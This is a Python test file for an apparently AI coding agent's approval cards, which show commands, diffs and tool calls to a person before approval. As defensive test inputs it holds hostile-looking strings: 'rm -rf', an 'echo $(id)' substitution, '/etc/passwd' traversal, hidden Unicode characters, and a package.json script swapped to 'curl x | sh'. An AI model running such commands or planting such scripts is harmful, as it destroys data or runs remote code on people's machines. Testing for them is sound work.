"""Cards: everything is shown before it is asked."""

from pathlib import Path

import pytest

from treadle.core.events import ApprovalRequested
from treadle.core.items import CallItem
from treadle.core.json import write_json
from treadle.terminal.permissions.permission_policy import PermissionPolicy, PermissionQuestion, question_of
from treadle.terminal.permissions.remembered_permissions import Allowances
from treadle.terminal.rendering.approval_card import card_lines, choices_for, diff_of, file_reader

POLICY = PermissionPolicy("ask", Allowances("/w"), sandbox=2)


def ask(tool: str, **arguments: object) -> PermissionQuestion:
    """Return a question."""
    call = CallItem(call_id="c", name=tool, arguments=write_json(arguments).decode(), side="server")
    why = (f"{tool} always needs approval",)
    return question_of(ApprovalRequested(index=0, call=call, approval_id="a", source="local", reasons=why), "/w")


def shown(question: PermissionQuestion, files: dict[str, str] | None = None) -> list[str]:
    """Return the lines of a card."""
    return [text for _, text in card_lines(POLICY, question, (files or {}).get)]


def test_a_command_is_shown_whole_with_its_conditions_and_each_command_in_it() -> None:
    """A harmless first line hides nothing."""
    assert shown(ask("bash", command="# tidy up\ngit status &&\nrm -rf ./tmp", cwd="src", timeout_s=5)) == [
        "bash wants to run (sandbox L2, network off, timeout 5 s, in src)",
        *("    # tidy up", "    git status &&", "    rm -rf ./tmp"),
        "  why: bash always needs approval",
    ]
    assert shown(ask("bash", command="git status &&\nrm -rf ./tmp"))[3:-1] == [
        "  1 git status    usually only reads",
        "  2 rm -rf ./tmp  NEW",
    ]


def test_what_can_not_be_remembered_says_why() -> None:
    """And it is not shown in parts: what stands in the substitution would be missing."""
    lines = shown(ask("bash", command="make; echo $(id)"))
    assert [line for line in lines if line.startswith(("  1", "  2"))] == []
    assert "    make; echo $(id)" in lines
    assert "  can not be remembered: a substitution runs another command" in lines
    assert [choice.key for choice in choices_for(POLICY, ask("bash", command="echo $(id)"))] == ["y", "e", "n", "N"]


def test_choices_say_exactly_what_would_be_remembered() -> None:
    """For the session and for the project."""
    choices = {choice.key: choice.meaning for choice in choices_for(POLICY, ask("bash", command="ls; make; make x"))}
    assert choices["s"] == "always in this session: exactly `ls; make; make x`, sandbox L2"
    assert choices["p"] == "always in this project: exactly `ls; make; make x`, sandbox L2"
    assert list(choices) == ["y", "s", "p", "e", "n", "N"]


def test_a_write_is_shown_as_a_diff_with_its_counts() -> None:
    """Against what the file holds now."""
    lines = card_lines(POLICY, ask("file_write", path="a.txt", content="one\nthree\n"), {"a.txt": "one\ntwo\n"}.get)
    assert ("removed", "    -two") in lines
    assert ("added", "    +three") in lines
    assert ("dim", "    +1 -1") in lines


def test_a_new_file_and_an_edit_that_can_not_be_read_are_shown_too() -> None:
    """From another machine there is only what the call says."""
    assert "    --- (new file)" in shown(ask("file_write", path="a.txt", content="one\n"))
    assert shown(ask("file_edit", path="a.txt", old="x\ny", new="z"))[1:4] == ["    -x", "    -y", "    +z"]
    edited = shown(ask("file_edit", path="a", old="b", new="c"), {"a": "a\nb\n"})
    assert "    -b" in edited


def test_other_calls_are_shown_with_all_their_arguments() -> None:
    """As JSON a person can read; what is no JSON as it is."""
    assert '      "deep": [' in shown(ask("deploy", deep=[1]))
    call = CallItem(call_id="c", name="x", arguments="[no", side="server")
    question = question_of(ApprovalRequested(index=0, call=call, approval_id="a", source="python"), "/w")
    assert "    [no" in [text for _, text in card_lines(POLICY, question, lambda _: None)]


def test_a_long_diff_is_cut_and_a_huge_one_only_counted() -> None:
    """Eighty lines are enough to see what it is about."""
    old, new = "a\n" * 200, "b\n" * 200
    lines = diff_of("x", old, new)
    assert len(lines) == 81
    assert lines[-1][1] == "    +200 -200, 323 lines of it not shown"
    assert len(diff_of("x", "a" * 2_097_152, "b")) == 1


@pytest.mark.parametrize("path", ["../outside", "/etc/passwd", "link", "folder", "gone"])
def test_a_card_reads_nothing_outside_the_folder(tmp_path: Path, path: str) -> None:
    """Neither by dots, nor by a link."""
    root = tmp_path / "root"
    (root / "folder").mkdir(parents=True)
    (tmp_path / "outside").write_text("secret", encoding="utf-8")
    (root / "link").symlink_to(tmp_path / "outside")
    (root / "in").write_text("fine", encoding="utf-8")
    read = file_reader(str(root))
    assert read(path) is None
    assert read("in") == "fine"


def test_what_is_too_long_to_be_said_twice_is_named_by_the_card() -> None:
    """The choices stay readable; the card above has every command whole."""
    long = "touch " + "x" * 300
    choices = {choice.key: choice.meaning for choice in choices_for(POLICY, ask("bash", command=long))}
    assert choices["s"] == "always in this session: exactly this command"
    assert any(long in line for line in shown(ask("bash", command=f"{long}; {long}y")))


def test_characters_that_can_not_be_seen_are_shown_in_a_command() -> None:
    """What is agreed to is what stands there, whatever hides between two letters."""
    lines = shown(ask("bash", command="rm a\u200bb \U000e0041 c\u00a0d"))
    assert "    rm a<U+200B>b <U+E0041> c<U+00A0>d" in lines
    choices = {choice.key: choice.meaning for choice in choices_for(POLICY, ask("bash", command="rm a\u200bb"))}
    assert choices["s"] == "always in this session: exactly `rm a<U+200B>b`, sandbox L2"


def test_a_whole_card_has_the_whole_change() -> None:
    """However long it is; the short one says how much is missing."""
    question = ask("file_write", path="a", content="\n".join(map(str, range(100))))
    short, whole = (card_lines(POLICY, question, lambda _: None, is_whole=is_whole) for is_whole in (False, True))
    assert short[-2] == ("dim", "    +100 -0, 23 lines of it not shown")
    assert whole[-2:] == [("dim", "    +100 -0"), ("dim", "  why: file_write always needs approval")]
    assert ("added", "    +99") in whole


def test_what_is_protected_and_what_runs_is_named_first() -> None:
    """With the reason why it is protected; what runs all the same is named too."""
    assert shown(ask("file_write", path="AGENTS.md", content="x", protected=True))[1] == (
        "    protected path AGENTS.md: coding agents obey it"
    )
    assert shown(ask("bash", command="x", protected=[".envrc", "b"]))[1:3] == [
        "    protected path .envrc: direnv runs it when a shell enters the folder",
        "    protected path b",
    ]
    assert shown(ask("bash", command="git add .", git=True))[1] == (
        "    git write: the repository may be changed, not its settings; no hooks run"
    )
    assert (
        shown(ask("file_write", path="sub/Makefile", content="all:\n"))[1] == "    sub/Makefile: make runs what it says"
    )


def test_changed_scripts_of_a_package_are_shown_however_long_the_diff_is() -> None:
    """They run with the next install or test of a person."""
    filler = ", ".join(f'"k{number}": {number}' for number in range(300)).replace(", ", ",\n")
    old = f'{{{filler},\n"scripts": {{"test": "jest", "lint": "eslint"}}}}'
    new = old.replace('"k', '"x').replace("jest", "curl x | sh").replace('"lint"', '"postinstall"')
    lines = shown(ask("file_write", path="package.json", content=new), {"package.json": old})
    assert lines[1:6] == [
        "    package.json: npm runs its scripts",
        "    - script test: jest",
        "    + script test: curl x | sh",
        "    - script lint: eslint",
        "    + script postinstall: eslint",
    ]
    assert "    + script test: x" in shown(ask("file_write", path="package.json", content='{"scripts": {"test": "x"}}'))
    assert shown(ask("file_write", path="package.json", content="{")) != []
